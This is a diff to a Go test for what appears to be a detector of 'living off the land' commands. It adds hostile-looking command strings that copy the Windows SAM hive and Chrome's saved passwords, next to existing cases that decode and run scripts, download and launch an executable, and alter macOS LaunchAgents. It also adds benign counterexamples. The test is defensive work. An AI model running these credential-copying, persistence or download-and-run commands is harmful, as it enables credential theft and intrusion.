@@ -35,6 +35,10 @@ func TestDefaultEngineLivingOffTheLand(t *testing.T) {
 		`openssl enc -d -base64 -in p.b64 -out x.sh && bash x.sh`,
 		// PowerShell's .NET download, then run
 		`powershell -c "(New-Object Net.WebClient).DownloadFile('https://files.example/a.exe', $env:TEMP + '\a.exe'); Start-Process $env:TEMP\a.exe"`,
+		// Windows credential stores copied: the SAM hive, a browser's
+		// saved passwords
+		`esentutl.exe /y /vss C:\Windows\System32\config\SAM /d C:\t\s.hive`,
+		`Copy-Item "$env:LOCALAPPDATA\Google\Chrome\User Data\Default\Login Data" C:\t\l.db`,
 		// macOS: a LaunchAgent edited in place, a login hook, the keychain
 		`/usr/libexec/PlistBuddy -c "Set :ProgramArguments:0 /tmp/x.sh" ~/Library/LaunchAgents/com.x.plist`,
 		`plutil -replace ProgramArguments -json '["/tmp/x.sh"]' ~/Library/LaunchAgents/com.x.plist`,
@@ -51,6 +55,9 @@ func TestDefaultEngineLivingOffTheLand(t *testing.T) {
 		`echo "$KEY_B64" | base64 -d > key.json && python3 deploy.py`,
 		`cscript //nologo tools\version.vbs`,
 		`Start-Process -FilePath notepad.exe -ArgumentList README.md`,
+		`Copy-Item .\src\app.config .\dist\`,
+		`Move-Item build\out.log logs\`,
+		`type C:\Windows\System32\drivers\etc\hosts`,
 		`(New-Object Net.WebClient).DownloadString('https://api.example/version')`,
 		`defaults write com.apple.dock autohide -bool true`,
 		`defaults read com.apple.loginwindow`,
